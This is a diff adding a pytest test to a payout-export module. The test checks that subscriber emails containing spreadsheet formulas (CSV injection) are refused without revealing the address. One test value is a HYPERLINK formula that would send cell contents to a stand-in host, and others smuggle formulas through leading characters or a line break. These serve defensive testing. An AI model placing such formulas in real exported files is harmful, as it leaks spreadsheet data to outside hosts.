@@ -32,7 +32,9 @@ from gopro_assets.cli import main
 from gopro_assets.finance.assets import payout_export
 from gopro_assets.finance.export import export_month, export_tax_year
 from gopro_assets.finance.gate import ExportRefused, gate_month
+from gopro_assets.lib import duck
 from gopro_assets.lib import exports as lib
+from gopro_assets.lib.exports import ExportDataError
 from gopro_assets.lib.delta_store import DeltaStore
 from gopro_assets.lib.landing import LANDING_KINDS
 from gopro_assets.lib.pipeline import run_all
@@ -408,3 +410,32 @@ def test_cli_export_end_to_end(lakehouse, tmp_path, monkeypatch, capsys):
 
     assert main(["export"]) == 2
     assert main(["export", "--month", "2025-1"]) == 2
+
+
+@pytest.mark.parametrize("email, payable", [
+    ("one@example.com", True),
+    ("first.last+tag@mail.example.co.uk", True),
+    ("=HYPERLINK(\"http://x.example/?\"&A1)@example.com", False),  # a formula in a spreadsheet
+    ("+1@example.com", False),
+    ("-2+3@example.com", False),
+    ("@example.com", False),
+    ("one@example", False),  # no dot in the domain
+    ("one two@example.com", False),
+    ("one@@example.com", False),
+    ("one@example.com\r\n=1+1", False),
+])
+def test_payout_file_takes_plain_addresses_only(email, payable):
+    """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection): the
+    payout file is refused, naming the subscriber, never showing the address."""
+    con = duck.connect()
+    con.register("revenue_share_statements", pa.table({
+        "statement_month": ["2025-01", "2025-01"], "subscriber_id": ["s1", "s2"], "payable_cents": [1500, 2000]}))
+    con.register("subscribers", pa.table({"subscriber_id": ["s1", "s2"], "email": ["ok@example.com", email]}))
+    assert lib.is_payable_address(email) is payable
+    if payable:
+        assert [r["email"] for r in lib.payout_rows(con, "2025-01")] == ["ok@example.com", email]
+    else:
+        with pytest.raises(ExportDataError, match="not a plain address") as refused:
+            lib.payout_rows(con, "2025-01")
+        assert str(refused.value).endswith(": s2") and email not in str(refused.value)
+    con.close()
